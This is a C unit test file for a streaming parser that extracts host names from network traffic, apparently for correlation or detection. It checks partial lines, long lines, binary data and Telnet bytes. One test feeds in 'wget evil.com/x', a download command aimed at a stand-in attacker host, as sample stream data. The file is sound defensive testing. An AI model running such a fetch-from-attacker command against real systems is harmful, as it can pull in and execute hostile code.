/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What rows cannot tell of streams: long lines, holes, binary data. (Cuts: mentions_kit.c.) */
#include "core/correlate/mention_stream.h"

#include <glib.h>
#include <string.h>

struct world {
    struct mf_mention_finder *finder;
    struct mf_mention_stream *stream;
    GString *sure, *open; /* hosts, a space behind each */
    bool alive;
};

static void
world_init(struct world *world)
{
    world->finder = mf_mention_finder_new();
    world->stream = mf_mention_stream_new(world->finder);
    world->sure = g_string_new(NULL);
    world->open = g_string_new(NULL);
    world->alive = true;
}

static void
world_clear(struct world *world)
{
    mf_mention_stream_free(world->stream);
    mf_mention_finder_free(world->finder);
    g_string_free(world->sure, TRUE);
    g_string_free(world->open, TRUE);
}

static void
note(void *user, const struct mf_mention *mention)
{
    struct world *world = user;
    GString *out = mention->open ? world->open : world->sure;

    g_string_append_len(out, (const char *)mention->host.data, (gssize)mention->host.length);
    g_string_append_c(out, ' ');
}

static void
feed_bytes(struct world *world, const char *bytes, size_t length, bool gap)
{
    g_string_truncate(world->open, 0);
    g_assert_true(world->alive);
    world->alive = mf_mention_stream_feed(
        world->stream, (struct mf_span){(const uint8_t *)bytes, length}, gap, note, world);
}

static void
feed(struct world *world, const char *text)
{
    feed_bytes(world, text, strlen(text), false);
}

static void
test_open(void)
{
    struct world world;

    world_init(&world);
    feed(&world, "get evil.co");
    g_assert_cmpstr(world.open->str, ==, "evil.co ");
    feed(&world, "m");
    g_assert_cmpstr(world.open->str, ==, "evil.com ");
    g_assert_cmpstr(world.sure->str, ==, "");
    feed(&world, "\nnext");
    g_assert_cmpstr(world.open->str, ==, "");
    g_assert_cmpstr(world.sure->str, ==, "evil.com ");
    world_clear(&world);
}

static void
test_gap(void)
{
    struct world world;

    world_init(&world);
    feed(&world, "see a.evil.com and b.evil.com no");
    feed_bytes(&world, "w c.evil.com\n", 13, true);
    g_assert_cmpstr(world.sure->str, ==, "a.evil.com b.evil.com c.evil.com ");
    world_clear(&world);
}

/* A line of N bytes 'x' and blanks, with a name at its end. */
static void
check_long(size_t n, size_t piece)
{
    GString *line = g_string_new(NULL);
    struct world world;

    for (size_t i = 0; i < n; i++)
        g_string_append_c(line, i % 100 == 99 ? ' ' : 'x');
    g_string_append(line, " evil.com ");
    for (size_t i = 0; i < n; i++)
        g_string_append_c(line, i % 100 == 99 ? ' ' : 'x');
    g_string_append(line, " other.com\n");
    world_init(&world);
    for (size_t at = 0; at < line->len; at += piece) {
        feed_bytes(&world, line->str + at, MIN(piece, line->len - at), false);
        g_assert_cmpuint(mf_mention_stream_size(world.stream), <=, 2 * MF_MENTION_LINE);
    }
    g_assert_cmpstr(world.sure->str, ==, "evil.com other.com ");
    world_clear(&world);
    g_string_free(line, TRUE);
}

static void
test_long(void)
{
    for (int around = -12; around <= 12; around++) {
        check_long((size_t)(MF_MENTION_LINE + around), SIZE_MAX / 2);
        check_long((size_t)(MF_MENTION_LINE + around), 1000);
    }
    check_long(MF_MENTION_LINE - 5, 1);
    check_long(10 * MF_MENTION_LINE, 1500);
}

/* Of a line without blanks nothing is kept for ever. */
static void
test_endless(void)
{
    char x[1000];
    struct world world;

    memset(x, 'x', sizeof x);
    world_init(&world);
    for (unsigned i = 0; i < 100; i++) {
        feed_bytes(&world, x, sizeof x, false);
        g_assert_cmpuint(mf_mention_stream_size(world.stream), <=, 2 * MF_MENTION_LINE);
    }
    feed(&world, "\nevil.com\n");
    g_assert_cmpstr(world.sure->str, ==, "evil.com ");
    world_clear(&world);
}

static void
test_binary(void)
{
    char bytes[MF_MENTION_LINE];
    struct world world;

    for (unsigned i = 0; i < sizeof bytes; i++)
        bytes[i] = (char)(i * 2654435761u >> 13);
    world_init(&world);
    for (unsigned i = 0; world.alive && i < 2; i++)
        feed_bytes(&world, bytes, sizeof bytes, false);
    g_assert_false(world.alive);
    world_clear(&world);
}

/* A few strange bytes, as Telnet negotiates with, are no reason to give up. */
static void
test_telnet(void)
{
    struct world world;

    world_init(&world);
    feed_bytes(&world, "\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27\r\0\n", 15, false);
    feed(&world, "wget evil.com/x\n");
    g_assert_cmpstr(world.sure->str, ==, "evil.com ");
    world_clear(&world);
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/mention_stream/open", test_open);
    g_test_add_func("/mention_stream/gap", test_gap);
    g_test_add_func("/mention_stream/long", test_long);
    g_test_add_func("/mention_stream/endless", test_endless);
    g_test_add_func("/mention_stream/binary", test_binary);
    g_test_add_func("/mention_stream/telnet", test_telnet);
    return g_test_run();
}
